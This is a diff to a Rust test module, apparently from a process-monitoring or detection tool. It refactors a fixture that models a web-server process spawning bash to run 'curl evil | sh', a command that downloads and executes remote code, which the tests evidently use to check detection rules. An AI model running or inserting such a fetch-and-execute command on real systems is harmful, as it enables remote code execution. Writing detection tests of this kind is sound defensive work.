@@ -802,15 +802,16 @@ mod tests {
     use crate::event::ProcessEventType;
 
     fn nginx_shell() -> ProcessEvent {
-        let mut p = ProcessEvent::new(4242, "bash");
-        p.ppid = Some(100);
-        p.executable_path = Some("/usr/bin/bash".into());
-        p.command_line = vec!["bash".into(), "-c".into(), "curl evil | sh".into()];
-        p.cpu_usage = Some(12.5);
-        p.memory_usage = Some(10 << 20);
-        p.user_id = Some(33);
-        p.event_type = ProcessEventType::Exec;
-        p
+        ProcessEvent {
+            event_type: ProcessEventType::Exec,
+            ppid: Some(100),
+            executable_path: Some("/usr/bin/bash".into()),
+            command_line: vec!["bash".into(), "-c".into(), "curl evil | sh".into()],
+            cpu_usage: Some(12.5),
+            memory_usage: Some(10 << 20),
+            user_id: Some(33),
+            ..ProcessEvent::new(4242, "bash")
+        }
     }
 
     fn check(sql: &str) -> bool {
